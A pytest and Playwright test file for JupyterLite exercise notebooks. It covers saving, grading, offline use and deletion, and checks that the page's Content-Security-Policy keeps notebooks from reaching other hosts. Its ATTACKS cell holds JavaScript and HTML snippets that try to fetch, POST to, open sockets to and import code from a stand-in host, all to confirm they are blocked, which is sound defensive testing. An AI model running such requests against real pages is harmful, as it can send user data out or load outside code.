"""The exercises in JupyterLite: they run, the work stays, leaves as a notebook that grades like any other, and asks no other host."""

import csv
import json
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
from conftest import Opener
from playwright.sync_api import Browser, BrowserContext, Page, expect
from support.copies import Host, deploy, hosted_copy
from support.exercises import ROOT, answered, answers, master, release
from support.proxy import Net, net
from support.site import SITE
from support.tiers import short_of
from support.waiting import PATIENCE, wait_until

from grader.cells import read
from grader.rebuild import rebuild
from sphinx_livepage.lite.page import POLICY
from sphinx_livepage.policy import as_text
from teach.data import NAMES
from teach.plain_run import code_cells

BY_HAND = "treatment"  # its answers are typed, the others' are served
FIGURES = {"causes", "long_term", "prevention", "treatment", "when_to_seek_help"}
OF_CHROMIUM = "content-autofill.googleapis.com:443"
PASSED = "The checks in this cell pass."
PYTHON_MS = PATIENCE * 1000
# The state of a notebook: what each code cell says before it, and the errors of all.
STATE = """() => ({
  prompts: [...document.querySelectorAll(".jp-CodeCell .jp-InputPrompt")].map((prompt) => prompt.textContent.trim()),
  errors: [...document.querySelectorAll('[data-mime-type="application/vnd.jupyter.stderr"]')].map((output) => output.textContent),
  text: [...document.querySelectorAll(".jp-OutputArea-output")].map((output) => output.textContent).join("\\n"),
})"""
DONE = r"({ prompts, errors }) => errors.length > 0 || (prompts.length > 0 && prompts.every((prompt) => /^\[\d+\]:$/.test(prompt)))"
# The pieces of JupyterLab that came one by one, and not in the file of all that a start needs.
SINGLY = """performance.getEntriesByType("resource").map(({ name }) => name.split("/lite/")[1] ?? "")
  .filter((name) => /^build\\/\\d+\\..*js|^extensions\\/@jupyter-widgets\\/.*static\\/\\d+\\./.test(name))"""
# What the exercises leave on a device.
LEFT = """async () => [
  ...(await indexedDB.databases()).map(({ name }) => name),
  ...(await caches.keys()).filter((name) => name.includes("lite")),
  ...(await navigator.serviceWorker.getRegistrations()).map(({ scope }) => scope).filter((scope) => scope.includes("lite")),
  ...Object.keys(localStorage),
]"""
# Whether a notebook on the device has no stub left.
SAVED = """(path) => new Promise((resolve) => {
  const opened = indexedDB.open(`JupyterLite Storage - ${new URL("../", location.href).pathname}`);
  opened.onsuccess = () => {
    const asked = opened.result.transaction("files").objectStore("files").get(path);
    asked.onsuccess = () => {
      opened.result.close();
      resolve(!!asked.result && !JSON.stringify(asked.result.content).includes("raise NotImplementedError"));
    };
  };
})"""
# The last file of those that are kept for days without a network.
KEPT = "caches.match(new URL('../files/when_to_seek_help/when_to_seek_help.ipynb', location.href)).then((found) => found !== undefined)"


@dataclass
class Desk:
    """A browser of its own with the site on a host, and all that it asked of others."""

    context: BrowserContext
    host: Host
    net: Net
    complaints: list[str]

    def asked(self) -> set[str]:
        """Return the other hosts that were asked, but for the one that Chromium itself asks about forms."""
        return {address for address in self.net.foreign if address != OF_CHROMIUM}

    def open(self, name: str) -> Page:
        """Open a set as its page's button does; wait until the notebook is there."""
        page = self.context.new_page()
        page.on("pageerror", lambda error: self.complaints.append(f"{name}: {error}"))
        page.on("console", lambda message: self.complaints.append(f"{name}: {message.text}") if message.type == "error" else None)
        page.goto(f"{self.host.address}lite/notebooks/index.html?path={name}/{name}.ipynb")
        page.wait_for_selector(".jp-Notebook .jp-CodeCell", timeout=PYTHON_MS)
        return page


@pytest.fixture(scope="module")
def desk(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    """Give one browser for all tests: Python and Jupyter are fetched once. Sets but one are served with the reference answers in them."""
    with hosted_copy(tmp_path_factory.mktemp("lite")) as host, net() as others:
        for name in NAMES:
            served = host.folder / "lite" / "files" / name / f"{name}.ipynb"
            assert served.read_bytes() == release(name).read_bytes()
            if name != BY_HAND:
                deploy(host.folder, f"lite/files/{name}/{name}.ipynb", json.dumps(answered(name)).encode())
        context = browser.new_context(
            viewport={"width": 1280, "height": 900}, proxy={"server": others.proxy, "bypass": "127.0.0.1"}, accept_downloads=True
        )
        context.set_default_timeout(PATIENCE * 1000)
        made = Desk(context, host, others, [])
        yield made
        context.close()


def run_all(page: Page) -> dict:
    """Press Run All Cells, and wait until every cell was run or one failed. Returns the state."""
    page.get_by_role("menuitem", name="Run", exact=True).click()
    page.get_by_role("menuitem", name="Run All Cells", exact=True).click()
    wait_until(page, f"({DONE})(({STATE})())", seconds=PYTHON_MS / 1000)
    return page.evaluate(STATE)


def checks(name: str) -> int:
    """Return how many cells with checks a set has."""
    return release(name).read_text(encoding="utf-8").count(PASSED)


@pytest.mark.parametrize("name", short_of(sorted(set(NAMES) - {BY_HAND}), "when_to_seek_help"))
def test_a_set_runs_with_the_right_answers(desk: Desk, name: str) -> None:
    """From top to bottom, in the browser of the sets before: all visible checks pass, figures are drawn, no other host is asked."""
    page = desk.open(name)
    assert page.evaluate(SINGLY) == [], "pieces that sphinx_livepage/lite/parts/boot.json does not list"
    state = run_all(page)
    assert state["errors"] == []
    assert state["text"].count(PASSED) == checks(name) > 4
    assert "There is no plotly here" not in state["text"]
    if name in FIGURES:
        expect(page.locator(".js-plotly-plot .main-svg .trace").first).to_be_visible()
    page.close()
    assert desk.complaints == []
    assert desk.asked() == set()


@pytest.mark.long
def test_work_stays_leaves_grades_and_goes(desk: Desk, tmp_path: Path) -> None:
    """One story: answers typed, loaded again, run, downloaded, graded; opened without a network; deleted."""
    notebook = json.loads(release(BY_HAND).read_text(encoding="utf-8"))
    places = {cell["id"]: number for number, cell in enumerate(notebook["cells"])}
    page = desk.open(BY_HAND)
    for cell, text in answers(BY_HAND).items():
        page.locator(".jp-Notebook .jp-Cell").nth(places[cell]).locator(".cm-content").click()
        page.keyboard.press("Control+a")
        page.keyboard.insert_text(text)
    page.keyboard.press("Control+s")
    wait_until(page, SAVED, f"{BY_HAND}/{BY_HAND}.ipynb")
    page.reload()
    page.wait_for_selector(".jp-Notebook .jp-CodeCell", timeout=PYTHON_MS)
    state = run_all(page)
    assert state["errors"] == []
    assert state["text"].count(PASSED) == checks(BY_HAND)

    with page.expect_download() as download:
        page.get_by_role("button", name="Download", exact=True).click()
    sent = tmp_path / "downloads" / "ada" / download.value.suggested_filename
    download.value.save_as(sent)
    made = rebuild(read(sent.read_bytes()), nbformat.read(release(BY_HAND), as_version=4))
    assert made.changes == ()
    assert nbformat.read(sent, as_version=4).metadata.kernelspec.name == "python", "JupyterLite's own, which no grader here has"
    if sys.platform == "linux":  # where there is a sandbox
        assert graded(tmp_path, sent.parents[1]) == points(BY_HAND)

    wait_until(page, KEPT)
    desk.host.off()
    page.reload()
    page.wait_for_selector(".jp-Notebook .jp-CodeCell", timeout=PYTHON_MS)
    assert run_all(page)["text"].count(PASSED) == checks(BY_HAND)
    desk.host.on()
    page.close()

    page = desk.context.new_page()
    page.on("dialog", lambda dialog: dialog.accept())
    page.goto(f"{desk.host.address}book/exercises/{BY_HAND}.html")
    page.get_by_text("Where your work is, and how to start over").click()
    expect(page.locator(".exercise-kept")).to_contain_text("Your work on this set is on this device, last changed on")
    page.get_by_role("button", name="Start this set over").click()
    expect(page.locator(".exercise-kept")).to_contain_text("Deleted")
    page.get_by_role("link", name="Open in your browser").click()
    expect(page.locator(".jp-Notebook")).to_contain_text("YOUR CODE HERE", timeout=PYTHON_MS)
    page.goto(f"{desk.host.address}book/exercises/{BY_HAND}.html")
    page.get_by_text("Where your work is, and how to start over").click()
    page.get_by_role("button", name="Delete all sets from this device").click()
    expect(page.locator(".exercise-kept")).to_contain_text("Deleted: all sets")
    assert page.evaluate(LEFT) == []
    assert desk.complaints == []
    assert desk.asked() == set()


def points(name: str) -> dict[str, float]:
    """Return the points of each task of a set that a program marks."""
    return {cell.name: cell.points for cell in code_cells(master(name)) if cell.points is not None}


def graded(folder: Path, downloads: Path) -> dict[str, float]:
    """Grade what was downloaded with the command that a teacher types. Returns the points of each task that it marked."""
    course = folder / "course"
    shutil.copytree(master(BY_HAND).parent, course / "source" / BY_HAND)
    command = [sys.executable, str(ROOT / "dev.py"), "grade", BY_HAND, str(downloads), "--course", str(course), "--workers", "1"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=900, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    with (course / "class" / f"marks-{BY_HAND}.csv").open(encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    return {name: float(row[name]) for name in points(BY_HAND)}


ATTACKS = """
import js
from pyodide.code import run_js

other = "http://elsewhere.example/"
attacks = {
    "fetch": f"fetch('{other}', {{mode: 'no-cors'}})",
    "request": f"(() => {{ const asked = new XMLHttpRequest(); asked.open('POST', '{other}', false); asked.send('x'); }})()",
    "socket": f"new WebSocket('{other.replace('http', 'ws')}')",
    "events": f"new EventSource('{other}')",
    "module": f"import('{other}')",
    "module by a blob": f"import(URL.createObjectURL(new Blob([`import '{other}'`], {{type: 'text/javascript'}})))",
    "font": f"new FontFace('x', 'url({other})').load()",
    "worker": f"new Worker(URL.createObjectURL(new Blob([`fetch('{other}')`])))",
    "copy": "caches.keys()",
    "database": "indexedDB.open('x')",
    "files": "navigator.storage.getDirectory()",
    "other pages": "new BroadcastChannel('x')",
}
done = []
for name, code in attacks.items():
    try:
        found = run_js(code)
        if hasattr(found, "then"):
            await found
        done.append(name)
    except Exception:
        pass
from IPython.display import HTML, display
display(HTML(f'<i>shown</i><meta http-equiv="refresh" content="0; url={other}"><link rel="preconnect" href="{other}"><img src="{other}">'))
print("done:", done)
"""


@pytest.mark.long
def test_python_in_a_notebook_reaches_no_other_host_and_nothing_that_is_kept(desk: Desk) -> None:
    """With the page's own policy and no header: JavaScript from Python, and what a cell shows."""
    page = desk.open("causes")
    address = page.url
    page.locator(".jp-Notebook .jp-CodeCell .cm-content").first.click()
    page.keyboard.press("Escape")
    page.keyboard.press("a")  # a new cell above
    expect(page.locator(".jp-Notebook .jp-CodeCell").first.locator(".cm-content")).to_have_text("")
    page.keyboard.press("Enter")
    page.keyboard.insert_text(ATTACKS)
    page.keyboard.press("Shift+Enter")
    output = page.locator(".jp-Notebook .jp-CodeCell").first.locator(".jp-OutputArea-output")
    expect(output.filter(has_text="done:")).to_have_text(re.compile(r"done: \[\]"), timeout=PYTHON_MS)
    page.wait_for_timeout(500)
    assert page.url == address
    assert desk.asked() == set()
    page.close()
    desk.complaints.clear()  # the browser says what it refused


def test_policy_of_the_page_is_as_tight_as_jupyterlab_allows() -> None:
    """No script stands inside it, it loads from the site alone and sends nowhere else; the README has it as a header."""
    page = (SITE / "lite" / "notebooks" / "index.html").read_text(encoding="utf-8")
    assert f'content="{as_text(POLICY)}"' in page
    assert page.index("Content-Security-Policy") < page.index("<script")
    assert re.findall(r"<script(?![^>]*\bsrc=)(?![^>]*type=\"application/json)", page) == []
    assert {place for allowed in POLICY.values() for place in allowed.split() if "." in place or place == "*"} == set()
    assert as_text({**POLICY, "frame-ancestors": "'none'"}) in (ROOT / "README.md").read_text(encoding="utf-8")


def test_what_a_page_says_where_it_cannot_work(open_page: Opener) -> None:
    """An old browser, and one that keeps nothing: words, and no link that leads nowhere."""
    old = open_page("book/exercises/causes.html", java_script_enabled=True, reduced_motion="reduce").page
    old.add_init_script("delete WebAssembly.Exception")
    old.reload()
    expect(old.locator(".exercise-trouble")).to_contain_text("This browser is too old")
    assert old.locator(".exercise-open").get_attribute("href") is None
    # A context of its own, since JupyterLite keeps something that the next test would find. It blocks service workers.
    closed = open_page("lite/notebooks/index.html?path=causes/causes.ipynb", reduced_motion="reduce")
    expect(closed.page.get_by_role("alert")).to_contain_text("Is this a private window?", timeout=PYTHON_MS)
    closed.page.close()
    # JupyterLite rejects a promise of its own, without a reason, if it has no service worker. It may do so before the page is closed.
    closed.complaints[:] = [complaint for complaint in closed.complaints if complaint != "error: undefined"]
